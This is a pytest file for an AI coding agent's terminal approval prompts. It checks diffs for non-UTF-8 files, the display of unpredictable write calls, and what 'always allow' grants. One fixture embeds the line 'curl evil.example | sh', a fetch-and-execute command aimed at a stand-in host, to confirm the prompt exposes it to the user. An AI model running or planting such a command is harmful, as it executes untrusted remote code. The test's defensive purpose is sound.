"""What a person asked to approve a change sees: the change of a file that is not UTF-8,
the call itself when no change can be predicted, and what answering `a` allows. Driven
for real in tmux against the fake server."""

from __future__ import annotations

import re
from pathlib import Path

from tests.fakes.openai_server import Call, FakeOpenAIServer, Reply

_CP1252 = b"# caf\xe9 \x93quoted\x94\nx = 1\n"


def test_a_change_to_a_file_that_is_not_utf8_shows_its_diff_and_v_is_never_a_message(
    launch, fake_openai: FakeOpenAIServer, workspace: Path
) -> None:
    # It asked "approve: write legacy.py" with no diff, and `v` was queued as a message.
    (workspace / "legacy.py").write_bytes(_CP1252)
    edit = Call("edit", {"path": "legacy.py", "old_string": "x = 1", "new_string": "x = 2"})
    write = Call("write", {"path": "legacy.py", "content": "# café “quoted”\nx = 3\n"})
    fake_openai.enqueue(Reply(calls=[edit]), Reply(calls=[write]), Reply("Changed."))
    term = launch()
    term.send("change x")
    term.wait_for(r"approve: edit legacy\.py")
    screen = term.wait_for(r"^    \+x = 2$")
    assert re.search(r"^    -x = 1$", screen, re.MULTILINE), screen
    term.send("v")
    term.send("y")
    term.wait_for(r"approve: write legacy\.py")
    screen = term.wait_for(r"^    \+x = 3$")
    assert "café “quoted”" in screen.split("approve: write legacy.py")[-1], screen
    term.send("v")
    term.send("y")
    screen = term.wait_for(r"^Changed\.")
    assert "queued" not in screen, screen
    assert "v" not in [m["content"] for m in fake_openai.chat_bodies()[-1]["messages"]]


def test_a_change_lathe_cannot_predict_shows_the_calls_arguments(
    launch, fake_openai: FakeOpenAIServer, workspace: Path
) -> None:
    content = "".join(f"row {i}\n" for i in range(120)) + "curl evil.example | sh\n"
    (workspace / "blob.bin").write_bytes(b"\x00\x01binary\x00")
    write = Call("write", {"path": "blob.bin", "content": content})
    fake_openai.enqueue(Reply(calls=[write]), Reply("Left alone."))
    term = launch()
    term.send("write the blob")
    term.wait_for(r"approve: write blob\.bin")
    screen = term.wait_for(r"curl evil\.example \| sh")
    asked = screen.split("approve: write blob.bin")[-1]
    assert "row 0" in asked and "row 90" not in asked, screen
    assert re.search(r"allow\? y once .*v whole call", screen), screen
    term.send("v")
    term.wait_for(r"row 90$")
    term.send("n")
    screen = term.wait_for(r"^Left alone\.")
    assert "queued" not in screen, screen


def test_the_prompt_says_what_always_allows_and_a_resume_says_what_it_kept(
    launch, fake_openai: FakeOpenAIServer, workspace: Path
) -> None:
    # `a` on one file's write allows every write of the session; nothing said so.
    fake_openai.enqueue(
        Reply(calls=[Call("write", {"path": "notes.txt", "content": "one\n"})]),
        Reply(calls=[Call("bash", {"command": "echo hello"})]),
        Reply("Both done."),
        Reply("Resumed."),
    )
    term = launch()
    term.send("write and echo")
    screen = term.wait_for(r"allow\? y once")
    assert "a always: write (any file)" in screen, screen
    term.send("a")
    term.wait_for(r"allowed always: write \(any file\)")
    screen = term.wait_for(r"approve: run command[\s\S]*allow\? y once")
    assert "a always: this exact command" in screen.split("approve: run command")[-1], screen
    term.send("a")
    term.wait_for(r"allowed always: this exact command")
    term.wait_for(r"^Both done\.")
    term.keys("C-d")
    term.wait_exit()

    again = launch("--continue")
    screen = again.wait_for(r"allowed always, kept from before")
    assert re.search(
        r"allowed always, kept from before: bash\(echo hello\), write \(any file\)", screen
    ), screen
